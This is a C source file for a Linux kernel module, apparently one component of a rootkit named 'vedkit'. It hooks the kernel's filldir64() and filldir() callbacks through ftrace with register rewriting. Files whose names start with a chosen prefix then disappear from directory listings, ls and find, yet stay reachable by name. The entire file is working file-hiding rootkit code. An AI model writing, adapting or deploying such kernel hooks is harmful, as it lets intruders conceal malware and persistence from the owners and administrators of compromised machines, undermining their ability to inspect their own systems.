// SPDX-License-Identifier: GPL-2.0
/*
 * ftrace_file: hide every directory entry whose name starts with hide_prefix
 * (default "vedkit_") from getdents()/getdents64(), hence from ls and find,
 * while the files stay reachable by name (open, stat, cat).
 *
 * filldir64() (and filldir() for the old getdents) is the VFS callback that
 * copies one entry to the user's buffer.  An ftrace_ops with IPMODIFY, the
 * mechanism livepatch uses, redirects calls for matching names to a stub
 * that reports success without copying anything.
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/string.h>

#include "vedkit.h"

static size_t vk_prefix_len;

/* Stands in for filldir64(): "entry done, go on", but nothing copied. */
static bool vk_filldir_skip(struct dir_context *ctx, const char *name,
			    int namlen, loff_t offset, u64 ino, unsigned int d_type)
{
	return true;
}

static void notrace vk_filldir_hook(unsigned long ip, unsigned long parent_ip,
				    struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);
	const char *name;
	int namlen;

	if (!regs)
		return;
	/* filldir64(ctx, name, namlen, ...): name in rsi, namlen in rdx. */
	name = (const char *)regs->si;
	namlen = (int)regs->dx;
	if (namlen >= vk_prefix_len && !memcmp(name, vk_hide_prefix, vk_prefix_len))
		regs->ip = (unsigned long)vk_filldir_skip;
}

static struct ftrace_ops vk_filldir_ops = {
	.func = vk_filldir_hook,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY |
		 FTRACE_OPS_FL_RECURSION,
};

int vk_ftrace_file_init(void)
{
	static unsigned char f64[] = "filldir64", f[] = "filldir";
	int ret;

	vk_prefix_len = strlen(vk_hide_prefix);
	if (!vk_prefix_len)
		return -EINVAL;
	ret = ftrace_set_filter(&vk_filldir_ops, f64, sizeof(f64) - 1, 1);
	if (!ret)
		ret = ftrace_set_filter(&vk_filldir_ops, f, sizeof(f) - 1, 0);
	if (!ret)
		ret = register_ftrace_function(&vk_filldir_ops);
	if (ret) {
		ftrace_free_filter(&vk_filldir_ops);
		return ret;
	}
	pr_info("ftrace hook on filldir64/filldir hides \"%s*\"\n", vk_hide_prefix);
	return 0;
}

void vk_ftrace_file_exit(void)
{
	unregister_ftrace_function(&vk_filldir_ops);
	ftrace_free_filter(&vk_filldir_ops);
}
